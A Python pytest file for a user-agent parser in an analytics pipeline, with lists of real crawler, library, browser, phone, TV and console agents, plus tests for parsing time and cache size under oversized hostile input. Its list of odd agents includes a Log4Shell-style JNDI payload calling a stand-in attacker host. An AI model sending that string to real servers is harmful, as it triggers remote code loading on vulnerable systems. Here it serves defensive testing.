"""Programs, people and devices by their user agents. No database.

A few of each kind; `python -m benchmarks.user_agents` tries 40,000.
"""

# ruff: noqa: E501 - strings as they are sent

import re
import time

import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA

from analytics.ingest import user_agents

IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15"
SAFARI = f"{IPHONE} (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1"
WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
CHROME = f"{WINDOWS} (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"


def android(model, *, mobile="Mobile ", after=""):
    return (
        f"Mozilla/5.0 (Linux; Android 15; {model}) AppleWebKit/537.36 (KHTML, like"
        f" Gecko) Version/4.0 Chrome/140.0.0.0 {mobile}Safari/537.36{after}"
    )


HEALTH_CHECKS = """\
ELB-HealthChecker/2.0
kube-probe/1.29
GoogleHC/1.0
Consul Health Check
Amazon-Route53-Health-Check-Service (ref 8f4c1f; report http://amzn.to/1vsZADi)
Amazon CloudFront
Edge Health Probe
HealthCheck/1.0
haproxy-healthcheck
Envoy/HC
Traefik-Health
Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)
Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)
Mozilla/5.0 (compatible; StatusCake)
Better Uptime Bot Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Chrome/84 Safari/537
NewRelicPinger/1.0 (1234)
Datadog/Synthetics
Site24x7
check_http/v2.3.3 (monitoring-plugins 2.3.3)
Zabbix
Blackbox Exporter/0.25.0
Prometheus/2.53.0
Uptime-Kuma/1.23.11
updown.io daemon 2.11
Checkly/1.0
Grafana/11.1.0
"""
LIBRARIES = """\
curl/8.5.0
Wget/1.21.4
Go-http-client/1.1
python-requests/2.32.3
Python/3.12 aiohttp/3.9.5
Python-urllib/3.11
python-httpx/0.27.0
okhttp/4.12.0
Java/17.0.9
Apache-HttpClient/4.5.14 (Java/17.0.9)
axios/1.7.2
node
undici
got (https://github.com/sindresorhus/got)
Ruby
Faraday v2.9.0
GuzzleHttp/7
libwww-perl/6.77
PostmanRuntime/7.39.0
insomnia/9.2.0
HTTPie/3.2.2
Dart/3.4 (dart:io)
reqwest/0.12
MyApp/42 CFNetwork/1496.0.7 Darwin/23.5.0
"""
PREVIEWS = """\
facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)
Twitterbot/1.0
Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
WhatsApp/2.23.20.0
TelegramBot (like TwitterBot)
Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)
Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5
Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)
LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)
Iframely/1.3.1 (+https://iframely.com/docs/about)
"""
CRAWLERS = f"""\
Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
{android("Nexus 5X", after=" (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")}
Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.1; +https://openai.com/gptbot
Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)
Mozilla/5.0 (compatible; SomethingNew/1.0)
Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)
UniversalFeedParser/4.2 +http://feedparser.org/
"""
HEADLESS = f"""\
{CHROME.replace("Chrome/", "HeadlessChrome/")}
Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1
{CHROME} Prerender (+https://github.com/prerender/prerender)
{CHROME} Chrome-Lighthouse
{CHROME} Cypress/13.6.0
"""
# No agent, or one that no browser has.
ODD = ["", "-", "Mozilla", "Mozilla/5.0", "Mozilla/4.0 (compatible;)", "x"]
ODD += ["Mozilla/5.0 zgrab/0.x", "${jndi:ldap://evil.example/a}", "&as_qdr=all"]

BROWSERS = f"""\
{CHROME}
{CHROME} Edg/140.0.0.0
{CHROME} OPR/120.0.0.0
{CHROME} Vivaldi/7.5
{SAFARI}
{IPHONE} (KHTML, like Gecko) CriOS/140.0 Mobile/15E148 Safari/604.1
{IPHONE} (KHTML, like Gecko) FxiOS/143.0 Mobile/15E148 Safari/605.1.15
{IPHONE} (KHTML, like Gecko) DuckDuckGo/7 Mobile/15E148 Safari/605.1.15
{IPHONE} (KHTML, like Gecko) Mobile/15E148 (Ecosia ios@11.3.0.2234)
Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0
Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko
Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)
Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; .NET CLR 2.0.50727)
Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.4 (like Gecko)
Midori/0.2 (X11; Linux; U; fr-fr) WebKit/531.2+
Lynx/2.9.0 libwww-FM/2.14 SSL-MM/1.4.1
"""
PHONES = f"""\
{android("CUBOT J9")}
{android("Spider 8")}
{android("Ruby")}
{android("ViewSonic V500")}
{android("HTC Butterfly")}
{android("Fever_Plus")}
{android("CPH2581 Build/AP3A.240617.008; wv")}
{android("SM-S928B").replace("Chrome", "SamsungBrowser/28.0 Chrome")}
{android("moto g power (2022)")}
{android("PKC110", after=" HeyTapBrowser/40.9")}
Mozilla/5.0 (Linux; U; Android 15; zh-CN; PKB110) AppleWebKit/537.36 UCBrowser/17.5 Mobile Safari/537.36
{android("JMM-AL00 Build/HONOR; wv", after=" SogouMSE,SogouMobileBrowser/5.28.7")}
Opera/9.80 (J2ME/MIDP; Opera Mini/9.80/190.315; U; en) Presto/2.5.25 Version/10.54
Mozilla/5.0 (Mobile; Nokia 8110 4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5
UCWEB/2.0 (Java; U; MIDP-2.0; en-US; nokia201) U2/1.0.0 UCBrowser/9.4 U2/1.0.0 Mobile
SAMSUNG-GT-C3303K/C3303KJPJI2 NetFront/3.5 Profile/MIDP-2.0 Configuration/CLDC-1.1
Nokia6230/2.0 (04.44) Profile/MIDP-2.0 Configuration/CLDC-1.1
"""
IN_APPS = f"""\
{IPHONE} (KHTML, like Gecko) Mobile/15E148 Instagram 380.0.0.28.109 (iPhone16,2; iOS 18_5)
{android("CUBOT X20; wv", after=" Instagram 380.0 Android (35/15; 480dpi; CUBOT; X20)")}
{IPHONE} (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/512.0;FBDV/iPhone16,2;FBLC/de_DE]
{android("SM-F966N; wv", after=" Viber/27.4.0.0")}
{android("SM-F966N; wv", after=" Line/15.2.1/IAB")}
{android("SM-F966N; wv", after=" [Pinterest/Android]")}
{android("SM-F966N; wv", after=" MicroMessenger/8.0.50 NetType/WIFI Language/en")}
{IPHONE} (KHTML, like Gecko) GSA/380.0 Mobile/15E148 Safari/604.1
{android("SM-F966N; wv", after=" musical_ly_2023 BytedanceWebview/d8a21c6")}
{android("SM-F966N; wv", after=" Snapchat/12.80.0.37")}
"""
TVS = """\
Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0/7.0 TV Safari
Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0 Safari/537.36
Mozilla/5.0 (Linux; Android 9; AFTKA) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36
Mozilla/5.0 (Linux; Android 10; BRAVIA 4K GB) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36
Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Safari/537.36 CrKey/1.54
HbbTV/1.5.1 (+DRM;Samsung;SmartTV2021:UAU7000;T-KSU2EDEUC-0124.20;KantSU2e)
"""
CONSOLES = """\
Mozilla/5.0 (PlayStation; PlayStation 5/9.00) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15
Mozilla/5.0 (PlayStation 4 Pro 5.0)
Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140 Safari/537.36 Edg/140
Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0 NintendoBrowser/5.1
Opera/9.30 (Nintendo Wii; U; ; 3642; en)
"""


def lines(*texts):
    return [line for text in texts for line in text.splitlines()]


@pytest.mark.parametrize(
    "agent", [*lines(HEALTH_CHECKS, LIBRARIES, PREVIEWS, CRAWLERS, HEADLESS), *ODD]
)
def test_program_is_no_person(agent):
    assert user_agents.parse(agent).is_crawler
    assert user_agents.parse(agent).device == ""


@pytest.mark.parametrize("agent", lines(BROWSERS, PHONES, IN_APPS, TVS, CONSOLES))
def test_person_is_no_program(agent):
    assert not user_agents.parse(agent).is_crawler


@pytest.mark.parametrize(
    ("agents", "device"),
    [
        (lines(TVS), "TV"),
        (lines(CONSOLES), "Console"),
        (lines(PHONES, IN_APPS), "Mobile"),
        ([android("SM-X910", mobile=""), android("Pixel Tablet")], "Tablet"),
        ([SAFARI.replace("iPhone;", "iPad;")], "Tablet"),
        ([SAFARI, "Dalvik/2.1.0 (Linux; U; Android 15; Pixel 9)"], "Mobile"),
        (["MyShop/3.2 (Android 15; Pixel 9)"], "Mobile"),
        # Phones with an aerial.
        ([android("myA8 DTV"), android("Odyssey_DTV6")], "Mobile"),
        ([CHROME, *lines(BROWSERS)[9:12]], "Desktop"),
    ],
)
def test_device_is_what_the_words_say(agents, device):
    assert {
        agent: user_agents.parse(agent).device for agent in agents
    } == dict.fromkeys(agents, device)


def test_patterns_left_out_are_in_the_package_and_hit_people():
    """Otherwise there is no reason to leave them out."""
    people = lines(BROWSERS, PHONES, IN_APPS)
    people += ["Mozilla/5.0 (Macintosh) AppleWebKit/528.16 Fluid/0.9.6 Safari/528.16"]
    people += ["Mozilla/5.0 (X11; Linux) AppleWebKit/537 Chrome/1 Safari/5 XT1008/1"]
    known = {entry["pattern"] for entry in CRAWLER_USER_AGENTS_DATA}
    for pattern in user_agents._TOO_BROAD:
        assert pattern in known
        assert any(re.search(pattern, agent) for agent in people), pattern


@pytest.mark.parametrize(
    "text",
    ["Android", "Android(", "compatible; ", "a@", "Mozilla/5.0 (", "\0", "é", "bot"],
)
def test_hostile_string_takes_no_longer_than_another(text):
    hostile = text * 40_000
    began = time.perf_counter()
    for number in range(20):
        user_agents.parse(f"{number}{hostile}")
    assert time.perf_counter() - began < 0.5


def test_labels_are_no_longer_than_their_columns():
    agent = user_agents.parse("Mozilla/5.0 " + "x" * 400 + "/1.0 Gecko")
    assert all(len(label) <= 64 for label in agent[1:])


def test_long_user_agents_are_cut_before_they_are_remembered():
    """A stranger could fill the memory with those of 64 KiB."""
    user_agents.forget()
    for letter in "abc":
        user_agents.parse("Mozilla/5.0 " + "x" * 600 + letter)
    assert user_agents._parse.cache_info().currsize == 1
